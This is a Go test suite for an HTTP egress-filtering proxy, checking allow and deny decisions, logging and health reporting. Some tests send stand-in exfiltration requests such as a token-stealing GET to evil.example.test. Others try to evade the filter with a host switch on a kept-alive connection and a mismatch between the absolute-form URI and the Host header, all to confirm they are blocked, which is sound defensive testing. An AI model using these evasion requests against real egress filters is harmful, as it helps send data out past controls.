package egressproxy

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
)

// httpServer serves "<name> <method> <path> host=<Host>" on a fresh listener
// and maps name:port to it.
func (w *world) httpServer(name string, port uint16) *countingListener {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		w.t.Fatal(err)
	}
	cl := &countingListener{Listener: ln}
	srv := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		fmt.Fprintf(rw, "%s %s %s host=%s body=%s", name, r.Method, r.URL.RequestURI(), r.Host, body)
	})}
	go srv.Serve(cl)
	w.t.Cleanup(func() { srv.Close() })
	w.host(name, port, ln.Addr().String())
	return cl
}

func (w *world) httpClient(proxyStyle bool) *http.Client {
	tr := &http.Transport{DisableKeepAlives: false}
	if proxyStyle {
		u, _ := url.Parse("http://" + w.addr)
		tr.Proxy = http.ProxyURL(u)
	} else {
		// Transparent: every connection goes to the proxy whatever the URL.
		tr.DialContext = func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "tcp", w.addr)
		}
	}
	w.t.Cleanup(tr.CloseIdleConnections)
	return &http.Client{Transport: tr, Timeout: 5 * time.Second}
}

func get(t *testing.T, c *http.Client, u string) (int, string) {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		t.Fatalf("GET %s: %v", u, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestHTTPAllowed(t *testing.T) {
	w := newWorld(t)
	w.httpServer("plain.example.test", 80)
	w.httpServer("alt.example.test", 8080)
	w.setPolicy(loopback, httpRule("plain.example.test", 80), httpRule("alt.example.test", 8080))
	c := w.httpClient(false)
	if code, body := get(t, c, "http://plain.example.test/a?b=1"); code != 200 || body != "plain.example.test GET /a?b=1 host=plain.example.test body=" {
		t.Fatalf("%d %q", code, body)
	}
	if code, body := get(t, c, "http://alt.example.test:8080/x"); code != 200 || !strings.HasPrefix(body, "alt.example.test GET /x") {
		t.Fatalf("%d %q", code, body)
	}
	resp, err := c.Post("http://plain.example.test/up", "text/plain", strings.NewReader("payload"))
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.HasSuffix(string(b), "body=payload") {
		t.Fatalf("POST body not forwarded: %q", b)
	}
}

func TestHTTPDeniedNamesHostAndCommand(t *testing.T) {
	w := newWorld(t)
	srv := w.httpServer("evil.example.test", 80)
	w.httpServer("evil8.example.test", 8000)
	w.setPolicy(loopback, httpRule("plain.example.test", 80))
	c := w.httpClient(false)
	code, body := get(t, c, "http://evil.example.test/steal?token=x")
	if code != 403 || !strings.Contains(body, "evil.example.test") ||
		!strings.Contains(body, "clawker firewall add evil.example.test --proto http\n") {
		t.Fatalf("%d %q", code, body)
	}
	code, body = get(t, c, "http://evil8.example.test:8000/")
	if code != 403 || !strings.Contains(body, "clawker firewall add evil8.example.test --proto http --port 8000") {
		t.Fatalf("%d %q", code, body)
	}
	if srv.accepts.Load() != 0 {
		t.Fatal("denied server reached")
	}
	l := w.waitLog(func(l logLine) bool { return l.Host == "evil.example.test" })
	if l.Verdict != "denied" || l.Proto != "http" || l.Reason == "" {
		t.Fatalf("log %+v", l)
	}
}

func TestHTTPKeepAliveSecondHostRefused(t *testing.T) {
	w := newWorld(t)
	w.httpServer("plain.example.test", 80)
	evil := w.httpServer("evil.example.test", 80)
	w.setPolicy(loopback, httpRule("plain.example.test", 80))
	c, err := net.Dial("tcp", w.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	br := bufio.NewReader(c)
	io.WriteString(c, "GET /one HTTP/1.1\r\nHost: plain.example.test\r\n\r\n")
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("first request: %v %v", resp, err)
	}
	io.Copy(io.Discard, resp.Body)
	io.WriteString(c, "GET /two HTTP/1.1\r\nHost: evil.example.test\r\n\r\n")
	resp, err = http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != 403 {
		t.Fatalf("second request: %v %v", resp, err)
	}
	b, _ := io.ReadAll(resp.Body)
	if !strings.Contains(string(b), "clawker firewall add evil.example.test --proto http") {
		t.Fatalf("body %q", b)
	}
	if _, err := br.ReadByte(); err == nil {
		t.Fatal("connection left open after a refused request")
	}
	if evil.accepts.Load() != 0 {
		t.Fatal("refused host reached")
	}
	l := w.waitLog(func(l logLine) bool { return len(l.Hosts) == 2 })
	if l.Hosts[0] != "plain.example.test" || l.Hosts[1] != "evil.example.test" || l.Verdict != "denied" || l.Requests != 2 {
		t.Fatalf("log %+v", l)
	}
}

func TestHTTPKeepAliveRedialsForAnotherAllowedHost(t *testing.T) {
	w := newWorld(t)
	w.httpServer("a.example.test", 80)
	w.httpServer("b.example.test", 80)
	w.setPolicy(loopback, httpRule("a.example.test", 80), httpRule("b.example.test", 80))
	c, err := net.Dial("tcp", w.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	br := bufio.NewReader(c)
	for _, h := range []string{"a", "a", "b"} {
		fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s.example.test\r\n\r\n", h)
		resp, err := http.ReadResponse(br, nil)
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("%s: %v %v", h, resp, err)
		}
		b, _ := io.ReadAll(resp.Body)
		if !strings.HasPrefix(string(b), h+".example.test GET") {
			t.Fatalf("reached %q for host %s", b, h)
		}
	}
}

func TestHTTPAbsoluteFormDecidedByURIHost(t *testing.T) {
	w := newWorld(t)
	w.httpServer("plain.example.test", 80)
	evil := w.httpServer("evil.example.test", 80)
	w.setPolicy(loopback, httpRule("plain.example.test", 80))
	c := w.httpClient(true)
	code, body := get(t, c, "http://plain.example.test/p")
	if code != 200 || body != "plain.example.test GET /p host=plain.example.test body=" {
		t.Fatalf("%d %q", code, body)
	}
	// An absolute-form URI wins over a Host header naming an allowed host.
	conn, err := net.Dial("tcp", w.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(5 * time.Second))
	io.WriteString(conn, "GET http://evil.example.test/x HTTP/1.1\r\nHost: plain.example.test\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil || resp.StatusCode != 403 {
		t.Fatalf("%v %v", resp, err)
	}
	if evil.accepts.Load() != 0 {
		t.Fatal("absolute-form host reached")
	}
}

func TestHTTPUpgradeSplicesRaw(t *testing.T) {
	w := newWorld(t)
	srv := rawServer(t, func(c net.Conn) {
		br := bufio.NewReader(c)
		req, err := http.ReadRequest(br)
		if err != nil || req.Header.Get("Upgrade") != "echo" {
			io.WriteString(c, "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")
			return
		}
		io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n")
		io.Copy(c, br) // echo everything after the upgrade
	})
	w.host("ws.example.test", 80, srv.Addr().String())
	w.setPolicy(loopback, httpRule("ws.example.test", 80))

	c, err := net.Dial("tcp", w.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	io.WriteString(c, "GET /ws HTTP/1.1\r\nHost: ws.example.test\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != 101 {
		t.Fatalf("%v %v", resp, err)
	}
	msg := strings.Repeat("frame!", 50000)
	go io.WriteString(c, msg)
	got := make([]byte, len(msg))
	if _, err := io.ReadFull(br, got); err != nil || string(got) != msg {
		t.Fatalf("echo after upgrade: %v", err)
	}
	c.(*net.TCPConn).CloseWrite()
	if _, err := br.ReadByte(); err != io.EOF {
		t.Fatalf("want EOF after half-close, got %v", err)
	}
	l := w.waitLog(func(l logLine) bool { return l.Host == "ws.example.test" })
	if l.Verdict != "allowed" || l.BytesDown < int64(len(msg)) || l.BytesUp < int64(len(msg)) || l.ClosedBy != "client" {
		t.Fatalf("log %+v", l)
	}
}

func TestHTTPUnreachableAllowedHostIs502(t *testing.T) {
	w := newWorld(t)
	w.setPolicy(loopback, httpRule("gone.example.test", 80))
	code, body := get(t, w.httpClient(false), "http://gone.example.test/")
	if code != 502 || !strings.Contains(body, "gone.example.test") || !strings.Contains(body, "no such host") {
		t.Fatalf("%d %q", code, body)
	}
}

func TestHTTPFailClosedAndHealth(t *testing.T) {
	w := newWorld(t)
	w.httpServer("plain.example.test", 80)
	rec := httptest.NewRecorder()
	w.proxy.HealthHandler().ServeHTTP(rec, httptest.NewRequest("GET", "/healthz", nil))
	if rec.Code != 503 || !strings.Contains(rec.Body.String(), `"error":"no policy"`) {
		t.Fatalf("health without policy: %d %s", rec.Code, rec.Body)
	}
	code, body := get(t, w.httpClient(false), "http://plain.example.test/")
	if code != 403 || !strings.Contains(body, "no policy") {
		t.Fatalf("%d %q", code, body)
	}
	w.setPolicy(loopback, httpRule("plain.example.test", 80))
	rec = httptest.NewRecorder()
	w.proxy.HealthHandler().ServeHTTP(rec, httptest.NewRequest("GET", "/healthz", nil))
	gen := w.proxy.Stats().PolicyGeneration
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), fmt.Sprintf(`"policy_generation":%d`, gen)) ||
		!strings.Contains(rec.Body.String(), `"connections":`) || !strings.Contains(rec.Body.String(), `"log_dropped":0`) {
		t.Fatalf("health: %d %s", rec.Code, rec.Body)
	}
}
